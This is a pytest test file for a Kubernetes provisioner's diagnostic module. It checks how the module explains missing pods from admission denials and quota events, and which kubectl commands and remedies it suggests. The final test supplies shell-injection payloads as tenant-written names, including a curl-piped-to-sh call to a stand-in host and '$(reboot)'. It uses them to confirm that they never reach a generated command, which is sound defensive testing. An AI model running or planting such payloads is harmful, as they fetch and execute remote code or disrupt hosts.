"""Why an object does not exist: which refusal is its own, and what helps."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

import pytest

from provisioner.inspect.explain.view_rules import ClaimView, Said, View
from provisioner.inspect.object_name_rules import ObjectName
from tests.inspect.explain.views import NOW, chains, first_causes, node_of, pod_of, view

DENIED = (
    'Error creating: admission webhook "pods.ebs-provisioner.io" denied the request: '
    "the volume is in us-east-1a"
)
REPLICAS = "web-7f9c5d4f86"


def refusal(text: str, about: str, event: str = "FailedCreate", ago_s: float = 60.0) -> Said:
    """What the owner says of a pod or a claim that it tried to create."""
    at = NOW - timedelta(seconds=ago_s)
    return Said(about, f"event {event}", text, event=event, at=at)


def absent(*refusals: Said, name: str = f"{REPLICAS}-x2b5k") -> View:
    """A pod that does not exist, or not yet."""
    found = view("pod", pod=None, claims=(), node=None, refusals=refusals)
    return replace(found, target=ObjectName("pod", "shop", name))


def test_a_pod_that_was_refused():
    (chain,) = chains(absent(refusal(DENIED, f"ReplicaSet shop/{REPLICAS}")))
    assert str(chain.cause) == "AdmissionDenied"
    assert chain.links[0].command == "kubectl -n shop rollout restart deployment/web"


def test_a_replica_set_of_no_deployment_cannot_be_restarted():
    (chain,) = chains(absent(refusal(DENIED, "ReplicaSet shop/web"), name="web-x2b5k"))
    assert chain.links[0].command == "kubectl -n shop describe replicaset web"
    assert "change the number of replicas" in chain.links[0].remedy


def test_a_refused_pod_of_a_stateful_set_is_named_by_its_event():
    text = f"create Pod web-0 in StatefulSet web failed error: {DENIED}"
    event = refusal(text, "StatefulSet shop/web")
    (chain,) = chains(absent(event, name="web-0"))
    assert chain.links[0].command == "kubectl -n shop rollout restart statefulset/web"
    assert first_causes(absent(event, name="web-1")) == ["ObjectMissing"]


def test_a_pod_of_another_owner_with_a_longer_name_was_not_refused():
    events = (
        refusal(DENIED, "StatefulSet shop/web"),
        refusal(DENIED, "ReplicaSet shop/web"),
    )
    assert first_causes(absent(*events, name="web-frontend-7f9c5d4f86-x2b5k")) == ["ObjectMissing"]


def test_a_refusal_before_the_owners_last_success_is_over():
    about = f"ReplicaSet shop/{REPLICAS}"
    came = refusal(f"Created pod: {REPLICAS}-k5b2x", about, "SuccessfulCreate", 30)
    assert first_causes(absent(refusal(DENIED, about), came)) == ["ObjectMissing"]
    earlier = replace(came, at=NOW - timedelta(minutes=5))
    assert first_causes(absent(refusal(DENIED, about), earlier)) == ["AdmissionDenied"]


def test_a_claim_is_not_refused_by_what_refuses_pods_of_a_like_name():
    text = 'Error creating: pods "web-1" is forbidden: exceeded quota: most, requested: pods=1'
    found = view(
        "pod",
        pod=pod_of(node=""),
        node=None,
        nodes=(node_of(),),
        claims=(ClaimView("shop/web-1"),),
        refusals=(refusal(text, "StatefulSet shop/web"),),
    )
    assert first_causes(found) == ["ClaimMissing"]


@pytest.mark.parametrize(
    ("resource", "remedy"),
    [
        ("requests.storage", "delete claims"),
        ("persistentvolumeclaims", "delete claims"),
        ("pods", "delete pods"),
        ("requests.cpu", "request less of requests.cpu"),
        ("requests.ephemeral-storage", "request less of requests.ephemeral-storage"),
    ],
)
def test_what_gives_a_quota_room_depends_on_its_resource(resource: str, remedy: str):
    text = f"exceeded quota: most, requested: {resource}=1, used: {resource}=4"
    (chain,) = chains(absent(refusal(text, f"ReplicaSet shop/{REPLICAS}")))
    assert remedy in chain.links[0].remedy
    assert chain.links[0].command == "kubectl -n shop describe resourcequota most"


@pytest.mark.parametrize("name", ["a;curl${IFS}evil|sh", "$(reboot)", "--all", "a'b"])
def test_what_a_tenant_writes_into_an_event_is_no_part_of_a_command(name: str):
    about = f"ReplicaSet shop/{REPLICAS}"
    quota = refusal(f"exceeded quota: {name}, requested: pods=1", about)
    (chain,) = chains(absent(quota))
    assert chain.links[0].command == "kubectl -n shop describe resourcequota"
    text = f'pods "x" denied: admission webhook "w" denied the request: {name}'
    written = refusal(text, f"StatefulSet shop/{name}")
    (chain,) = chains(absent(written, name="x"))
    assert chain.links[0].command == ""
